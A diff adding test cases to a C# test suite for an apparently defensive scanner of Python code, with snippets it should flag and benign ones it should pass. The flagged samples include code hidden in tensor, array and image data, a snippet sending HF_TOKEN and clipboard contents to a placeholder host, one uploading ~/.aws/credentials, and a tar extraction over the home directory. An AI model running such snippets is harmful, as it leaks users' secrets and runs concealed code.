@@ -102,6 +102,18 @@ public sealed class OriginTests
         Assert.Contains(report.Findings, f => f.Rule.Id == "source-runs-program" && f.Phase is "import" or "infer");
     }
 
+    /// <summary>What is data holds code, what a user keeps to himself leaves the machine, and what lies in an archive is imported or put over a home.</summary>
+    [Theory]
+    [InlineData("import pickle\nfrom safetensors import safe_open\nwith safe_open('m.safetensors', 'pt') as f:\n    t = pickle.loads(f.get_tensor('b').numpy().tobytes())\n")]
+    [InlineData("import numpy as np, marshal, types\ntypes.FunctionType(marshal.loads(np.load('a.npy').tobytes()), globals())()\n")]
+    [InlineData("import pickle\nfrom PIL import Image\npickle.loads(bytes(Image.open('a.png').getdata()))\n")]
+    [InlineData("import webbrowser, os\nwebbrowser.open('http://x.invalid/?t=' + os.environ.get('HF_TOKEN', ''))\n")]
+    [InlineData("import pyperclip, requests\ndef f():\n    requests.get('http://x.invalid/' + pyperclip.paste())\n")]
+    [InlineData("import boto3, os\nboto3.client('s3').upload_file(os.path.expanduser('~/.aws/credentials'), 'b', 'k')\n")]
+    [InlineData("import tarfile, os\ntarfile.open('assets.tar').extractall(os.path.expanduser('~'))\n")]
+    [InlineData("import sys\nsys.path.insert(0, 'assets/vocab.zip')\nimport vocab_tools\n")]
+    public void T158_WhatIsNoCodeAndRunsOrLeavesIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());
+
     /// <summary>Libraries evaluate expressions that they get as texts.</summary>
     [Theory]
     [InlineData("import os\nimport pandas as pd\npd.DataFrame({'a': [1]}).query(\"@os.system('./x') == 0\", engine='python')\n")]
@@ -126,6 +138,10 @@ public sealed class OriginTests
     [InlineData("# encoding of words: see below\nx = 1\n")]
     [InlineData("x = 1\ny = 2\n# coding: none\n")]
     [InlineData("import pandas as pd\ndef f(df, x):\n    return df.query('a > @x').eval('b = a + 1')\n")]
+    [InlineData("import pickle, torch.distributed as dist\ndef gather(t):\n    return [pickle.loads(x.cpu().numpy().tobytes()) for x in t]\n")]
+    [InlineData("import tarfile\ndef get(p):\n    tarfile.open(p).extractall('data')\n")]
+    [InlineData("import boto3\ndef save(p):\n    boto3.client('s3').upload_file(p, 'b', 'k')\n")]
+    [InlineData("import sys, os\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n")]
     [InlineData("import streamlit as st\nst.code(\"os.system('ls')\")\n")]
     public void OrdinaryTextsPass(string source) => Assert.Equal(Verdict.Passed, Read(source).Verdict);
 
